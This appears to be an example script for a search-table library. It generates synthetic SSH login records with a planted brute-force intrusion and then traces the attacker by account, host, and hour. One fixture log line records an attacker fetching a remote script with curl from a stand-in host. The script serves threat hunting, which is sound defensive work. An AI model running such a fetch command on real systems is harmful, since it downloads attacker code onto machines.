"""Hunt an intruder through login records: from a hint to the account, the machine and the hour.

Needs `pip install indextables`. It makes the table `logins` in the current directory.
"""

import datetime as dt
import random

import pyarrow as pa

import indextables as it

DAY = dt.datetime(2026, 11, 14, tzinfo=dt.UTC)
USERS = ("ann", "bob", "carol", "dave", "svc-backup")
SCHEMA = pa.schema(
    [
        ("ts", pa.timestamp("us", "UTC")),
        ("host", pa.string()),
        ("source_ip", pa.string()),
        ("message", pa.string()),
    ]
)


def records(hosts: int = 4, per_host: int = 5_000) -> pa.Table:
    """A day of a quiet network, and one attack in it."""
    chance = random.Random(11)
    rows = []
    for host in range(hosts):
        for _ in range(per_host):
            user, when = chance.choice(USERS), DAY + dt.timedelta(seconds=chance.randrange(86_400))
            said = chance.choices(("Accepted publickey", "Failed password", "session closed"), (60, 3, 37))[0]
            address = f"10.0.{host}.{chance.randrange(256)}"
            rows.append((when, f"web-{host}", address, f"sshd: {said} for {user}"))
    night = DAY + dt.timedelta(hours=3, minutes=12)
    for second in range(90):
        when = night + dt.timedelta(seconds=2 * second)
        rows.append((when, "web-2", "203.0.113.77", "sshd: Failed password for svc-backup"))
    inside = {
        4: "sshd: Accepted password for svc-backup",
        9: "sudo: svc-backup ran curl http://198.51.100.9/x.sh",
    }
    rows += [
        (night + dt.timedelta(minutes=minute), "web-2", "203.0.113.77", said)
        for minute, said in inside.items()
    ]
    rows.sort(key=lambda row: row[0])
    return pa.table(dict(zip(SCHEMA.names, zip(*rows, strict=True), strict=True)), SCHEMA)


logins = it.Table.create(
    "logins", SCHEMA, options={"indexing.typemap.message": "text", "indexing.typemap.source_ip": "string"}
)
logins.append(records())

print("1. Who fails to log in, and when is it unusual?")
hours = logins.histogram("ts", "1h", query='"failed password"')
worst = max(hours.to_pylist(), key=lambda row: row["count"])
usual = sorted(hours["count"].to_pylist())[hours.num_rows // 2]
hour = worst["bucket"]
print(f"   {worst['count']} failures at {hour:%H:%M}, {usual} in a usual hour")

print("2. Where did they come from, in that hour?")
began, ended = (f"TIMESTAMP '{hour + dt.timedelta(hours=n):%Y-%m-%d %H:%M:%S}'" for n in (0, 1))
within = f"ts >= {began} AND ts < {ended}"
suspect = logins.facets("source_ip", query='"failed password"', where=within, top=1).to_pylist()[0]
print(f"   {suspect['value']}, {suspect['count']} times")

print("3. What else did that address do?")
rest = f"source_ip:{suspect['value']} AND NOT failed"
after = logins.search(rest, sort="ts", columns=["ts", "host", "message"])
for row in after.to_pylist():
    print(f"   {row['ts']:%H:%M} {row['host']} {row['message']}")

print("4. Has anybody else been sent there?")
print(f"   {logins.count(query='message:curl')} row in {logins.count():,} runs curl")
